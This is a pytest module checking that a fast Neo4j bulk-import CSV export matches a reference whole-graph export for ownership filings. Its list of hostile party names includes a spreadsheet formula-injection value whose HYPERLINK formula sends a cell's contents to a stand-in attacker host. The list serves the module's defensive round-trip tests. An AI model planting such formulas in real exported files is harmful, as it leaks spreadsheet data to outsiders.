"""The bulk path of ``export --format neo4j-import`` (queries/neo4j_import_fast.py).

The oracle is the whole-graph export (:func:`queries.neo4j_import.neo4j_import_files`,
``store.graph()`` through :mod:`graph.neo4j_rows`), kept as the reference: every file must
hold the same rows, cell for cell, hashes included. Stores: hostile names written directly
(quotes, commas, line breaks, the array delimiter, formulas, backslashes), a generated
tabular graph with merged parties (one document, so merged holders' holdings are
redirected), and the seed with a Form 4 amendment history (superseded holdings).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from ownergraph.graph.ids import document_id, party_id
from ownergraph.graph.model import (
    Document,
    Holding,
    Link,
    ParsedDocument,
    Party,
    Provenance,
    Security,
    Share,
)
from ownergraph.graph.store import Store
from ownergraph.graph.vocab import EdgeKind, Instrument, NodeKind, Power, Role, SourceFormat
from ownergraph.queries import neo4j_import_fast as fast
from ownergraph.queries.neo4j_import import ARRAY_DELIMITER, neo4j_import_files
from tests.test_neo4j_import import script_sets

FIXTURES = Path(__file__).parent / "fixtures"
SEED = FIXTURES / "seed" / "liquidmetal-wynnefield-sc13da2-2008-09-30.txt"

#: Names a hostile document could carry (each must come back exactly).
HOSTILE = [
    'Acme "Quoted" Holdings, L.P.',
    "Comma, Inc.",
    "Line\nBreak LLC",
    "Carriage\rReturn Ltd",
    "Array\x1fDelimiter Corp",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "Back\\slash Fund",
    "Zürich Ünïcode AG",
    "Plain Capital Partners LP",
]


def _hostile_store(path: Path) -> Path:
    did = document_id("e" * 16 + "hostile")
    prov = Provenance(path="hostile.json", format=SourceFormat.BODS, document_id=did)
    parties = [
        Party(
            party_id(name=n),
            n,
            NodeKind.ENTITY if i % 2 else NodeKind.FUND,
            names=(n, n.upper()),
            identifiers=(("cik", f"{i:010d}"),) if i % 3 == 0 else (),
            jurisdiction="Cayman Islands, BWI" if i % 4 == 0 else None,
            provenance=(prov,),
        )
        for i, n in enumerate(HOSTILE)
    ]
    issuer = parties[-1]
    sec = Security("security:" + "a" * 16, issuer.id, "Common Stock, Class A", cusip="123456 10 0",
                   provenance=(prov,))  # fmt: skip
    holdings = [
        Holding(
            id=f"holding:{i:016x}",
            document_id=did,
            holder_id=p.id,
            security_id=sec.id,
            instrument=Instrument.COMMON,
            shares=1000.0 * (i + 1) if i % 5 else None,
            as_of=dt.date(2025, 12, 31),
            nature_of_ownership='By "Trust", see note' if i == 1 else None,
            title="Title, with comma" if i == 2 else None,
            sole_voting=12.5 if i == 3 else None,
            provenance=(prov,),
        )
        for i, p in enumerate(parties[:-1])
    ]
    links = [
        Link(
            id=f"link:{i:016x}",
            document_id=did,
            kind=EdgeKind.OWNS if i % 2 else EdgeKind.CONTROLS,
            controller_id=parties[i].id,
            controlled_id=parties[i + 1].id,
            role=Role.SHAREHOLDER if i % 2 else Role.GENERAL_PARTNER,
            power=Power.SHARED if i % 3 == 0 else None,
            voting=Power.SOLE if i == 4 else None,
            share=Share(0.25, 0.5, exclusive_minimum=True) if i % 2 else None,
            interest_types=("shareholding", "voting-rights") if i == 1 else (),
            details=HOSTILE[i] if i < 4 else None,
            provenance=(prov,),
        )
        for i in range(len(parties) - 1)
    ]
    doc = Document(id=did, path="hostile.json", format=SourceFormat.BODS, sha256="e" * 64)
    with Store(path) as s:
        s.load(
            ParsedDocument(
                document=doc,
                parties=tuple(parties),
                securities=(sec,),
                holdings=tuple(holdings),
                links=tuple(links),
            )
        )
    return path


def _tabular_store(path: Path, folder: Path) -> Path:
    from ownergraph.benchmarks.generator import generate
    from ownergraph.loaders.tabular import parse_dir

    generate(1000, folder, seed=5)
    with Store(path) as s:
        s.load(parse_dir(folder))
        s.resolve()
        assert s.merges()  # the case under test: merged parties, one document
    return path


def _history_store(path: Path) -> Path:
    from ownergraph.loaders import parse_path

    with Store(path) as s:
        for p in [SEED, *sorted((FIXTURES / "history").iterdir())]:
            s.load(parse_path(p))
    return path


def _rows(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline="")))


def _sets(read: dict[str, str]) -> dict[str, object]:
    out: dict[str, object] = {}
    for name, data in read.items():
        if name.endswith(".csv") and not name.endswith(("_header.csv", "-2.csv")):
            head = _rows(read[name[:-4] + "_header.csv"])[0]
            data += read.get(name[:-4] + "-2.csv", "")  # a set's second data file
            out[name] = (tuple(head), sorted(map(tuple, _rows(data))))
    out["import.sh"] = script_sets(read["import.sh"])
    return out


def _fast(db: Path, folder: Path, workers: int) -> dict[str, str]:
    folder.mkdir()
    with Store(db) as s, s.snapshot():
        names = fast.write_all(s, folder, "neo4j", workers=workers)
    return {n: (folder / n).read_bytes().decode("utf-8") for n in names}


@pytest.fixture(scope="module")
def stores(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, dict[str, object]]]:
    """Each test store with its whole-graph export (as row sets), built once."""
    base = tmp_path_factory.mktemp("stores")
    dbs = {
        "hostile": _hostile_store(base / "hostile.db"),
        "tabular": _tabular_store(base / "tabular.db", base / "gen"),
        "history": _history_store(base / "history.db"),
    }
    out = {}
    for key, db in dbs.items():
        with Store(db) as s:
            whole = _sets({n: b.decode("utf-8") for n, b in neo4j_import_files(s).items()})
        out[key] = (db, whole)
    return out


@pytest.mark.parametrize("make", ["hostile", "tabular", "history"])
@pytest.mark.parametrize("workers", [1, 2])
def test_bulk_files_hold_the_whole_graph_exports_rows(
    tmp_path: Path, stores: dict[str, tuple[Path, dict[str, object]]], make: str, workers: int
) -> None:
    db, whole = stores[make]
    got = _sets(_fast(db, tmp_path / "out", workers))
    assert got.keys() == whole.keys()
    for name in whole:
        assert got[name] == whole[name], name
    if workers == 1 and make == "tabular":  # the pattern read the rows, not the slow way
        rows, slow = fast.STATS["holds.csv"]
        assert rows > 1000 and slow == 0
        rows, slow = fast.STATS["parties.csv"]
        assert rows > 500 and slow < rows // 10  # the merged parties only


def test_second_half_written_here_without_a_second_process(
    tmp_path: Path,
    stores: dict[str, tuple[Path, dict[str, object]]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Where no second process can be started (no ``os.fork``), this process writes both
    halves of the parties, holdings and links: the files still hold every row."""
    monkeypatch.setattr(fast, "_fork", lambda store, work: None)
    db, whole = stores["tabular"]
    got = _sets(_fast(db, tmp_path / "out", workers=2))
    assert got == whole


def test_hostile_names_come_back_exactly(tmp_path: Path) -> None:
    """Quotes, commas, line breaks, the array delimiter, a formula: each name reads back as
    stored (no apostrophe, no lost character) through a CSV reader, and the name of a party
    whose record has no escape went the fast way."""
    db = _hostile_store(tmp_path / "s.db")
    files = _fast(db, tmp_path / "out", workers=1)
    head = _rows(files["parties_header.csv"])[0]
    rows = _rows(files["parties.csv"] + files["parties-2.csv"])
    assert all(len(r) == len(head) for r in rows)
    names = {r[head.index("name")] for r in rows}
    assert names == set(HOSTILE)
    rows_total, slow = fast.STATS["parties.csv"]
    assert rows_total == len(HOSTILE) and 0 < slow < rows_total
    # a spelling with the delimiter in it is a record with an escape: written the slow way,
    # as the reference writes it (the importer would split it; docs/neo4j.md says so)
    spellings = [r[head.index("names:string[]")] for r in rows]
    assert any("Comma, Inc." in s.split(ARRAY_DELIMITER) for s in spellings)
    hold = _rows(files["holds.csv"] + files["holds-2.csv"])
    hh = _rows(files["holds_header.csv"])[0]
    assert {r[hh.index("nature_of_ownership")] for r in hold} >= {'By "Trust", see note'}
    assert "sole_voting:double" in hh and "no_voting" in hh  # all-null column: untyped


def test_pattern_reads_only_canonical_records() -> None:
    """The pattern matches the store's text of a record whose strings need no escape, and
    refuses one with an escape, a missing field, or an integer where a float is written;
    its groups are the record's values as the text writes them."""
    from ownergraph.graph.neo4j_rows import _json

    pat = fast.record_pattern(Holding)
    h = Holding("holding:1", "doc:1", "party:1", "security:1", Instrument.COMMON, 10.0)
    text = _json(h)
    m = pat.fullmatch(text)
    assert m is not None
    assert (m["shares"], m["holder_id"], m["title"]) == ("10.0", "party:1", None)
    assert pat.fullmatch(text.replace('"shares":10.0', '"shares":10')) is None
    assert pat.fullmatch(text.replace(',"title":null', "")) is None
    quoted = _json(Holding("holding:1", "doc:1", "party:1", "security:1", Instrument.COMMON,
                           10.0, title='A "B"'))  # fmt: skip
    assert pat.fullmatch(quoted) is None
    kept = fast.record_pattern(Holding, {"shares"})
    m = kept.fullmatch(text)
    assert m is not None and m.groupdict() == {"shares": "10.0"}
